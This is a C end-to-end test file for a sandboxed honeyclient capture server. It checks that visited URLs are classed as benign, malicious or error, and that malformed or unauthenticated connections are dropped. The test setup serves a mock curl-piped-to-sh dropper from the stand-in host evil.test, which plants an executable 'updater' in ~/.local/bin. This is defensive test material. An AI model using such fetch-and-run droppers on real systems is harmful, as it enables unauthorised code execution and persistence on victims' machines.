/*
 * test_server.c - end to end: the real capture-server with local sandbox
 * guests (real capture-clients, real sensor, real sandboxes) visiting a real
 * web server (capture-corpusd) in a services namespace of this test.
 *
 *  - benign URL -> safe.log; curl|sh dropper -> malicious.log, event log,
 *    archive with the dropped file, JSON report; unreachable URL ->
 *    NETWORK_ERROR after its retry; invalid line -> INVALID_URL;
 *  - a client killed in the middle of a visit: the URL is visited again and
 *    ends with a verdict;
 *  - hostile connections (garbage, oversized frame, failed authentication)
 *    are dropped while a good client's visit completes.
 */
#include <arpa/inet.h>
#include <archive.h>
#include <archive_entry.h>
#include <dirent.h>
#include <netinet/in.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdbool.h>
#include <sys/socket.h>
#include <time.h>
#include <cmocka.h>

#include "e2e/e2e.h"
#include "guest/netns.h"

#define SERVER_TIMEOUT_S 120

static char bindir[PATH_MAX], server_bin[PATH_MAX], corpusd_bin[PATH_MAX], idle_bin[PATH_MAX];
static char tmpdir[256], services[64], sites[PATH_MAX];
static pid_t corpusd = -1;

static void path_in(char *buf, size_t len, const char *dir, const char *name)
{
	snprintf(buf, len, "%s/%s", dir, name);
}

static void write_file(const char *path, const char *text, mode_t mode)
{
	assert_int_equal(e2e_write_file(path, text, mode), 0);
}

static void make_site(const char *host, const char *name, const char *text)
{
	char dir[PATH_MAX], path[PATH_MAX + 64];

	path_in(dir, sizeof(dir), sites, host);
	mkdir(dir, 0755);
	path_in(path, sizeof(path), dir, name);
	write_file(path, text, 0644);
}

static int group_setup(void **state)
{
	(void)state;
	e2e_sibling("", bindir, sizeof(bindir));
	snprintf(server_bin, sizeof(server_bin), "%s/../../capture-server", bindir);
	snprintf(corpusd_bin, sizeof(corpusd_bin), "%s/../../capture-corpusd", bindir);
	e2e_sibling("prog_idle", idle_bin, sizeof(idle_bin));
	snprintf(tmpdir, sizeof(tmpdir), "/tmp/capture-e2e-server-XXXXXX");
	if (!mkdtemp(tmpdir))
		return -1;
	chmod(tmpdir, 0755);
	snprintf(services, sizeof(services), "capture-e2e-srv%d", (int)getpid());
	path_in(sites, sizeof(sites), tmpdir, "sites");
	mkdir(sites, 0755);
	make_site("benign.test", "index.html", "<html><body>hello</body></html>\n");
	make_site("evil.test", "install.sh",
		  "mkdir -p \"$HOME/.local/bin\"\n"
		  "printf '#!/bin/sh\\necho pwned\\n' > \"$HOME/.local/bin/updater\"\n"
		  "chmod 755 \"$HOME/.local/bin/updater\"\n");
	corpusd = e2e_start_corpusd(corpusd_bin, sites, services, tmpdir);
	return corpusd > 0 ? 0 : -1;
}

static int group_teardown(void **state)
{
	char err[256], cmd[PATH_MAX];

	(void)state;
	if (corpusd > 0) {
		kill(corpusd, SIGTERM);
		waitpid(corpusd, NULL, 0);
	}
	net_services_destroy(services, err, sizeof(err));
	if (getenv("CAPTURE_KEEP"))
		return 0;
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmpdir);
	return system(cmd) == 0 ? 0 : -1;
}

struct run {
	char dir[PATH_MAX];
	char log[PATH_MAX + 8];
	char urls[PATH_MAX + 16];
	char err[PATH_MAX + 16];
	int port;
	pid_t pid;
};

/* A work directory with config.xml (EXTRA goes inside <config>) and urls.txt. */
static void prepare(struct run *r, const char *name, const char *global, const char *extra,
		    unsigned count, const char *urls)
{
	char cfg[PATH_MAX + 16], text[8192];

	path_in(r->dir, sizeof(r->dir), tmpdir, name);
	assert_int_equal(mkdir(r->dir, 0755), 0);
	snprintf(r->log, sizeof(r->log), "%s/log", r->dir);
	snprintf(r->urls, sizeof(r->urls), "%s/urls.txt", r->dir);
	snprintf(r->err, sizeof(r->err), "%s/server.err", r->dir);
	snprintf(cfg, sizeof(cfg), "%s/config.xml", r->dir);
	r->port = e2e_free_port();
	assert_true(r->port > 0);
	snprintf(text, sizeof(text),
		 "<config>\n"
		 "  <global client-default=\"curl\" client-default-visit-time=\"3\" %s/>\n"
		 "  <server listen-address=\"127.0.0.1\" listen-port=\"%d\" log-directory=\"%s\" "
		 "%s/>\n"
		 "  <sandbox-guests count=\"%u\" network=\"services\" services-namespace=\"%s\" "
		 "memory=\"0\"/>\n"
		 "  <application name=\"idle\" path=\"%s\"/>\n"
		 "</config>\n",
		 global, r->port, r->log, extra, count, services, idle_bin);
	write_file(cfg, text, 0644);
	write_file(r->urls, urls, 0644);
}

static void start(struct run *r)
{
	char cfg[PATH_MAX + 16], out[PATH_MAX + 16];

	snprintf(cfg, sizeof(cfg), "%s/config.xml", r->dir);
	snprintf(out, sizeof(out), "%s/server.out", r->dir);
	char *argv[] = {server_bin, "-c", cfg, "-f", r->urls, NULL};
	r->pid = e2e_spawn(argv, out, r->err);
	assert_true(r->pid > 0);
}

/* Waits for the server to exit; returns its exit status (fails the test on a hang). */
static int finish(struct run *r)
{
	int status = 0;

	for (int i = 0; i < SERVER_TIMEOUT_S * 10; i++) {
		if (waitpid(r->pid, &status, WNOHANG) == r->pid) {
			if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) {
				char *e = e2e_slurp(r->err);

				fprintf(stderr, "server stderr:\n%s\n", e ? e : "");
				free(e);
			}
			return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
		}
		usleep(100000);
	}
	kill(r->pid, SIGKILL);
	waitpid(r->pid, NULL, 0);
	fail_msg("capture-server did not finish within %d s", SERVER_TIMEOUT_S);
	return -1;
}

static char *slurp_log(const struct run *r, const char *name)
{
	char path[PATH_MAX + 64];
	char *text;

	snprintf(path, sizeof(path), "%s/%s", r->log, name);
	text = e2e_slurp(path);
	assert_non_null(text);
	return text;
}

static int count_lines(const char *text, const char *a, const char *b)
{
	int n = 0;

	for (const char *l = text; l && *l;) {
		const char *end = strchr(l, '\n');
		size_t len = end ? (size_t)(end - l) : strlen(l);
		char *line = strndup(l, len);

		if (line && strstr(line, a) && (!b || strstr(line, b)))
			n++;
		free(line);
		l = end ? end + 1 : l + len;
	}
	return n;
}

/* PATH of the per-URL file in the log directory starting with PREFIX and ending with EXT. */
static int find_output(const struct run *r, const char *prefix, const char *ext, char *path,
		       size_t len)
{
	DIR *d = opendir(r->log);
	struct dirent *e;
	int found = -1;

	assert_non_null(d);
	while ((e = readdir(d))) {
		size_t n = strlen(e->d_name), el = strlen(ext);

		if (!strncmp(e->d_name, prefix, strlen(prefix)) && n > el &&
		    !strcmp(e->d_name + n - el, ext)) {
			snprintf(path, len, "%s/%s", r->log, e->d_name);
			found = 0;
			break;
		}
	}
	closedir(d);
	return found;
}

static bool zip_has(const char *zip, const char *needle)
{
	struct archive *a = archive_read_new();
	struct archive_entry *e;
	bool found = false;

	archive_read_support_format_zip(a);
	if (archive_read_open_filename(a, zip, 65536) == ARCHIVE_OK)
		while (!found && archive_read_next_header(a, &e) == ARCHIVE_OK)
			found = strstr(archive_entry_pathname(e), needle) != NULL;
	archive_read_free(a);
	return found;
}

static void assert_report(const struct run *r, const char *prefix, const char *verdict)
{
	char path[PATH_MAX + 256];
	json_error_t je;
	json_t *rep;

	assert_int_equal(find_output(r, prefix, ".json", path, sizeof(path)), 0);
	rep = json_load_file(path, 0, &je);
	assert_non_null(rep);
	assert_string_equal(e2e_str(rep, "verdict"), verdict);
	json_decref(rep);
}

static void test_benign_malicious_unreachable_invalid(void **state)
{
	struct run r;
	char path[PATH_MAX + 256];
	char *safe, *mal, *err, *prog, *events;

	(void)state;
	prepare(&r, "main", "collect-modified-files=\"true\"", "", 2,
		"# e2e\n"
		"http://benign.test/::curl::3\n"
		"http://evil.test/install.sh::curl-sh::3\n"
		"http://nothing.test:8080/::curl::3\n"
		"not a url\n"
		"end\n");
	start(&r);
	assert_int_equal(finish(&r), 0);
	safe = slurp_log(&r, "safe.log");
	mal = slurp_log(&r, "malicious.log");
	err = slurp_log(&r, "error.log");
	prog = slurp_log(&r, "progress.log");
	assert_int_equal(count_lines(safe, "\"benign\"", "\"http://benign.test/\""), 1);
	assert_int_equal(count_lines(mal, "\"malicious\"", "\"http://evil.test/install.sh\""), 1);
	assert_int_equal(count_lines(err, "\"error:NETWORK_ERROR-7\"", "nothing.test"), 1);
	assert_int_equal(count_lines(err, "\"error:INVALID_URL\"", "\"not a url\""), 1);
	/* the unreachable URL was tried twice (one retry by default) */
	assert_int_equal(count_lines(prog, "NETWORK_ERROR", "nothing.test"), 2);
	assert_int_equal(count_lines(safe, "evil.test", NULL), 0);
	/* the dropper's event log, archive and report */
	assert_int_equal(find_output(&r, "http%3A%2F%2Fevil.test", ".log", path, sizeof(path)), 0);
	events = e2e_slurp(path);
	assert_non_null(events);
	assert_true(count_lines(events, "\"file\"", "/home/capture/.local/bin/updater") >= 1);
	assert_int_equal(find_output(&r, "http%3A%2F%2Fevil.test", ".zip", path, sizeof(path)), 0);
	assert_true(zip_has(path, ".local/bin/updater"));
	assert_report(&r, "http%3A%2F%2Fevil.test", "malicious");
	assert_report(&r, "http%3A%2F%2Fbenign.test", "benign");
	assert_report(&r, "http%3A%2F%2Fnothing.test", "error");
	/* no event log for the benign URL */
	assert_int_not_equal(
	    find_output(&r, "http%3A%2F%2Fbenign.test", ".log", path, sizeof(path)), 0);
	free(safe);
	free(mal);
	free(err);
	free(prog);
	free(events);
}

/* The pid of the capture-client serving RUN (its command line names the port). */
static pid_t find_client(const struct run *r)
{
	char want[32], path[300], buf[8192];
	DIR *d = opendir("/proc");
	struct dirent *e;
	pid_t found = -1;

	snprintf(want, sizeof(want), "%d", r->port);
	while (d && found < 0 && (e = readdir(d))) {
		int fd;
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/%s/cmdline", e->d_name);
		fd = open(path, O_RDONLY);
		if (fd < 0)
			continue;
		n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		if (n <= 0 || !strstr(buf, "capture-client"))
			continue;
		for (ssize_t i = 0; i < n; i++) /* argv words, NUL-separated */
			if (!strcmp(buf + i, "-p") && i + 3 < n && !strcmp(buf + i + 3, want))
				found = atoi(e->d_name);
	}
	if (d)
		closedir(d);
	return found;
}

static void wait_visiting(const struct run *r, int seconds)
{
	char path[PATH_MAX + 32];

	snprintf(path, sizeof(path), "%s/progress.log", r->log);
	for (int i = 0; i < seconds * 10; i++) {
		char *p = e2e_slurp(path);
		bool yes = p && strstr(p, "\"visiting\"");

		free(p);
		if (yes)
			return;
		usleep(100000);
	}
	fail_msg("no visit started within %d s", seconds);
}

static void test_client_killed_mid_visit_is_retried(void **state)
{
	struct run r;
	char *safe, *prog, *err;
	pid_t client;

	(void)state;
	prepare(&r, "killed", "", "", 1, "http://benign.test/idle::idle::6\nend\n");
	start(&r);
	wait_visiting(&r, 60);
	usleep(1500000);
	client = find_client(&r);
	assert_true(client > 0);
	assert_int_equal(kill(client, SIGKILL), 0);
	assert_int_equal(finish(&r), 0);
	safe = slurp_log(&r, "safe.log");
	prog = slurp_log(&r, "progress.log");
	err = slurp_log(&r, "error.log");
	assert_int_equal(count_lines(safe, "\"benign\"", "http://benign.test/idle"), 1);
	assert_int_equal(count_lines(prog, "CAPTURE_CLIENT_CONNECTION_RESET", "benign.test/idle"),
			 1);
	assert_int_equal(count_lines(err, "benign.test/idle", NULL), 0);
	free(safe);
	free(prog);
	free(err);
}

/* -r: a guest that needs a revert halts the server (exit 4) instead. */
static void test_halt_on_revert(void **state)
{
	struct run r;
	char cfg[PATH_MAX + 16], out[PATH_MAX + 16];
	pid_t client;

	(void)state;
	prepare(&r, "halt", "", "", 1, "http://benign.test/halt::idle::6\nend\n");
	snprintf(cfg, sizeof(cfg), "%s/config.xml", r.dir);
	snprintf(out, sizeof(out), "%s/server.out", r.dir);
	char *argv[] = {server_bin, "-c", cfg, "-f", r.urls, "-r", "true", NULL};
	r.pid = e2e_spawn(argv, out, r.err);
	wait_visiting(&r, 60);
	client = find_client(&r);
	assert_true(client > 0);
	assert_int_equal(kill(client, SIGKILL), 0);
	assert_int_equal(finish(&r), 4);
}

/* A client that stops answering (SIGSTOP) is inactive: its guest is reverted, the URL retried. */
static void test_stalled_client_reverted_and_url_retried(void **state)
{
	struct run r;
	char *safe, *prog;
	pid_t client;

	(void)state;
	prepare(&r, "inactive", "client_inactivity_timeout=\"2\"", "", 1,
		"http://benign.test/inactive::idle::4\nend\n");
	start(&r);
	wait_visiting(&r, 60);
	client = find_client(&r);
	assert_true(client > 0);
	assert_int_equal(kill(client, SIGSTOP), 0);
	assert_int_equal(finish(&r), 0);
	safe = slurp_log(&r, "safe.log");
	prog = slurp_log(&r, "progress.log");
	assert_int_equal(count_lines(safe, "\"benign\"", "http://benign.test/inactive"), 1);
	assert_int_equal(count_lines(prog, "CAPTURE_CLIENT_INACTIVITY", "benign.test/inactive"), 1);
	/* the stopped client was replaced: SIGTERM cannot reach it, SIGKILL did */
	assert_int_not_equal(kill(client, 0), 0);
	free(safe);
	free(prog);
}

static int connect_to(int port)
{
	struct sockaddr_in a = {.sin_family = AF_INET,
				.sin_port = htons((uint16_t)port),
				.sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	struct timeval tv = {.tv_sec = 10};
	int s = socket(AF_INET, SOCK_STREAM, 0);

	assert_true(s >= 0);
	assert_int_equal(connect(s, (struct sockaddr *)&a, sizeof(a)), 0);
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	return s;
}

/* Reads until the server closes S; fails if it does not within the timeout. */
static void assert_dropped(int s)
{
	char buf[4096];
	ssize_t n;

	while ((n = read(s, buf, sizeof(buf))) > 0)
		;
	assert_true(n == 0 || errno == ECONNRESET);
	close(s);
}

static void test_hostile_clients_dropped_good_one_served(void **state)
{
	struct run r;
	char key[PATH_MAX + 16], extra[PATH_MAX + 64], big[4096], *safe, *errs;
	int s;

	(void)state;
	snprintf(key, sizeof(key), "%s/hostile.key", tmpdir);
	write_file(key, "e2e-shared-secret\n", 0600);
	snprintf(extra, sizeof(extra), "auth-key-file=\"%s\"", key);
	prepare(&r, "hostile", "", extra, 1, "http://benign.test/hostile::idle::5\n");
	start(&r);
	wait_visiting(&r, 60);
	/* garbage */
	s = connect_to(r.port);
	{
		const char *junk = "GARBAGE \x01\x02 not xml at all\r\n";

		assert_true(write(s, junk, strlen(junk)) == (ssize_t)strlen(junk));
	}
	assert_dropped(s);
	/* an oversized frame before authentication */
	memset(big, 'A', sizeof(big));
	s = connect_to(r.port);
	assert_true(write(s, big, sizeof(big)) > 0);
	assert_dropped(s);
	/* a wrong answer to the challenge */
	s = connect_to(r.port);
	{
		const char *bad = "<auth response=\""
				  "0000000000000000000000000000000000000000000000000000000000000000"
				  "\"/>\r\n";

		assert_true(write(s, bad, strlen(bad)) == (ssize_t)strlen(bad));
	}
	assert_dropped(s);
	assert_int_equal(finish(&r), 0);
	safe = slurp_log(&r, "safe.log");
	assert_int_equal(count_lines(safe, "\"benign\"", "http://benign.test/hostile"), 1);
	errs = e2e_slurp(r.err);
	assert_non_null(errs);
	assert_true(count_lines(errs, "protocol error", NULL) >= 3);
	free(safe);
	free(errs);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_benign_malicious_unreachable_invalid),
	    cmocka_unit_test(test_client_killed_mid_visit_is_retried),
	    cmocka_unit_test(test_hostile_clients_dropped_good_one_served),
	    cmocka_unit_test(test_halt_on_revert),
	    cmocka_unit_test(test_stalled_client_reverted_and_url_retried),
	};
	const char *only = getenv("CAPTURE_TEST_FILTER");

	if (only)
		cmocka_set_test_filter(only);
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
